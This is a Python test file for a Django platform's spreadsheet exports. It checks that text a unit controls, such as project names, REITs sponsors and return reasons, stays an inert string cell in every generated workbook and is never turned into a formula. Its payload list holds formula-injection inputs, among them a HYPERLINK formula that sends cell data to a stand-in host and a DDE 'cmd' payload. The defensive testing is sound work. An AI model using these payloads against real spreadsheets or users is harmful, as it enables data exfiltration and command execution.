"""Formula injection into the Excel files the platform writes (security round 2, finding 1).

Text a unit controls (a project name, a REITs sponsor, a return reason …) must reach every
workbook as a string cell: ``=HYPERLINK(…&B2 …)`` typed as a project name must not become a live
formula in the city's bulletin, pulling in another unit's row. Every export is made by
:func:`tuijin.toolkit.spreadsheets.new_workbook`; these tests build the exports through their real doors
from data holding each payload and read the files back.
"""

from __future__ import annotations

import io
import pathlib
import re
import zipfile

import openpyxl
import pytest
from rest_framework.test import APIClient

from tuijin.audit.context import audit_context
from tuijin.toolkit.spreadsheets import csv_safe, new_workbook

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "{=SUM(A1:A2)}",
    "http://evil.example/x",
)
HYPERLINK = PAYLOADS[0]

SRC = pathlib.Path(__file__).resolve().parents[2] / "src" / "tuijin"


def body(response) -> bytes:
    """The bytes of a download (a FileResponse streams)."""
    assert response.status_code == 200, getattr(response, "content", b"")[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def formulas(content: bytes) -> list[str]:
    """Every formula (``<f>`` element) in every sheet of a workbook, as text."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[^>]*>(.*?)</f>", zf.read(name).decode())
    return found


def hyperlinks(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return [n for n in zf.namelist() if "hyperlink" in zf.read(n).decode(errors="ignore")
                and n.startswith("xl/worksheets/")]


def string_cells(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "s" and isinstance(cell.value, str)}


def assert_inert(content: bytes, *payloads: str) -> None:
    """No formula and no link in the file; each payload is there, unchanged, as a string cell."""
    assert formulas(content) == []
    assert hyperlinks(content) == []
    cells = string_cells(content)
    for payload in payloads:
        assert payload in cells, payload


# -- the mechanism ---------------------------------------------------------------------------------

@pytest.mark.parametrize("constant_memory", [False, True])
def test_every_way_of_writing_text_writes_a_string(tmp_path, constant_memory):
    out = io.BytesIO()
    book = new_workbook(out, constant_memory=constant_memory) if not constant_memory else \
        new_workbook(str(tmp_path / "b.xlsx"), constant_memory=True)
    sheet = book.add_worksheet("表")
    for row, payload in enumerate(PAYLOADS):
        sheet.write(row, 0, payload)
        sheet.write_row(row, 1, [payload, "1e5"])
    sheet.write_column(len(PAYLOADS), 0, list(PAYLOADS))
    book.close()
    content = out.getvalue() if not constant_memory else (tmp_path / "b.xlsx").read_bytes()
    assert_inert(content, *PAYLOADS, "1e5")


def test_a_formula_the_code_means_stays_a_formula():
    out = io.BytesIO()
    book = new_workbook(out)
    sheet = book.add_worksheet()
    sheet.write_number(0, 0, 2)
    sheet.write_formula(1, 0, "=A1*2")
    book.close()
    assert formulas(out.getvalue()) == ["A1*2"]


def test_csv_fields_are_prefixed_only_when_they_could_be_formulas():
    assert [csv_safe(p)[0] for p in PAYLOADS[:5]] == ["'"] * 5
    assert csv_safe("\tx") == "'\tx" and csv_safe("\rx") == "'\rx"
    assert csv_safe("金水区项目") == "金水区项目" and csv_safe(-3) == -3


def test_no_module_makes_a_workbook_but_the_spreadsheets_module():
    offenders = [str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
                 if path.name != "spreadsheets.py" and re.search(r"xlsxwriter\.Workbook\s*\(|from xlsxwriter",
                                                                  path.read_text())]
    assert offenders == []


# -- through the doors -----------------------------------------------------------------------------

@pytest.fixture
def api():
    def make(user):
        client = APIClient()
        client.force_authenticate(user)
        return client
    return make


def _rename(project, name):
    with audit_context(source="system", reason="test fixture"):
        project.name = name
        project.save()


@pytest.mark.django_db
def test_a_project_name_patched_by_a_unit_stays_text_in_the_city_export_and_the_audit_export(
        users, make_project, api, client_for):
    project = make_project("jinshui")
    other = make_project("zhongyuan")
    detail = api(users["jinshui"]).get(f"/api/v1/projects/{project.pk}/").json()
    patched = api(users["jinshui"]).patch(f"/api/v1/projects/{project.pk}/",
                                          {"name": HYPERLINK, "version": detail["version"]}, format="json")
    assert patched.status_code == 200, patched.content
    _rename(other, PAYLOADS[1])

    export = body(client_for("fgw").get("/projects/export.xlsx"))
    assert_inert(export, HYPERLINK, PAYLOADS[1])

    single = body(client_for("jinshui").get(f"/projects/{project.pk}/export.xlsx"))
    assert_inert(single, HYPERLINK)

    audit = body(client_for("auditor").get("/audit/export.xlsx"))
    assert formulas(audit) == []
    assert any(HYPERLINK in cell for cell in string_cells(audit))


@pytest.mark.django_db
def test_reits_sponsor_and_asset_type_stay_text(users, make_project, client_for):
    from tuijin.reits import services

    project = make_project("jinshui", category="infrastructure", investment_type="government")
    with audit_context(source="web", actor=users["jinshui"]):
        services.entry_create(actor=users["jinshui"], project_id=project.pk,
                              data={"asset_type": PAYLOADS[1], "sponsor": HYPERLINK, "pre_expenses_wan": "10"})
    export = body(client_for("fgw").get("/reits/export.xlsx"))
    assert_inert(export, HYPERLINK, PAYLOADS[1])


@pytest.mark.django_db
def test_the_bulletin_workbook_holds_hostile_project_names_as_text(orgs, make_project, users, settings, tmp_path):
    from django.core.cache import cache

    from tuijin.bulletins import services
    from tuijin.projects.models import Project
    from web.figures import LAGGING_NAME, MISSING_NAME, MONTH, YEAR, load

    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()
    load(orgs, make_project)
    _rename(Project.objects.get(name=LAGGING_NAME), HYPERLINK)
    _rename(Project.objects.get(name=MISSING_NAME), PAYLOADS[1])
    with audit_context(source="cli", reason="test"):
        bulletin = services.bulletin_generate(actor=users["fgw"], year=YEAR, month=MONTH)
    content = (settings.MEDIA_ROOT / bulletin.xlsx_file).read_bytes()
    cache.clear()
    # The bulletin's own charts reference cells, never formulas in cells; the names are strings.
    assert_inert(content, HYPERLINK, PAYLOADS[1])


@pytest.mark.django_db
def test_a_return_reason_stays_text_in_the_status_export(users, make_project, client_for, business_date):
    import datetime as dt

    from tuijin.reporting import services

    business_date("2022-08-03")
    project = make_project("jinshui", stage="construction", actual_start=dt.date(2021, 3, 1), annual_plan_wan="1200")
    with audit_context(source="web", actor=users["jinshui"]):
        services.report_save(actor=users["jinshui"], project_id=project.pk, period_code="2022-07",
                             data={"month_amount": "100", "physical_progress": "主体施工", "percent_complete": "30",
                                   "started": True}, version=None)
        services.unit_period_submit(actor=users["jinshui"], unit_code="jinshui", period_code="2022-07")
    with audit_context(source="web", actor=users["fgw"]):
        services.unit_period_return(actor=users["fgw"], unit_code="jinshui", period_code="2022-07",
                                   reason=HYPERLINK)
    export = body(client_for("fgw").get("/reporting/status.xlsx?period=2022-07"))
    assert_inert(export, HYPERLINK)


@pytest.mark.django_db
def test_a_hostile_name_round_trips_through_the_monthly_template(users, make_project, client_for, business_date):
    import datetime as dt

    business_date("2022-08-03")
    make_project("jinshui", stage="construction", actual_start=dt.date(2021, 3, 1), annual_plan_wan="1200",
                 name=HYPERLINK)
    template = body(client_for("jinshui").get("/reporting/2022-07/jinshui/template.xlsx"))
    assert_inert(template, HYPERLINK)
